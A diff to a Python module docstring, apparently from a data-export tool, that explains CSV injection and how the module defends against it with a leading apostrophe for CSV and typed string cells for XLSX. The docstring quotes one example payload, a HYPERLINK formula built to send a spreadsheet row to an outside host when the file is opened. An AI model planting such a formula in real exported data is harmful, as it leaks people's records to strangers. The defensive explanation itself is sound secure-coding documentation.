@@ -3,7 +3,9 @@
 A spreadsheet runs a cell that starts with `= + - @` (or a tab or carriage return before one) as a
 formula: a name typed as `=HYPERLINK("http://…?"&A1,"点击")` in a roster would send a row to a
 stranger when the error report or the audit export is opened (CSV injection, OWASP). Such a text
-is written with a leading apostrophe, which shows it as text; numbers stay numbers.
+is written with a leading apostrophe in a CSV file, which shows it as text; numbers stay numbers.
+An XLSX file stores each cell with its type: with XLSX_OPTIONS a text is always a string cell,
+never run and shown exactly as typed.
 """
 
 from __future__ import annotations
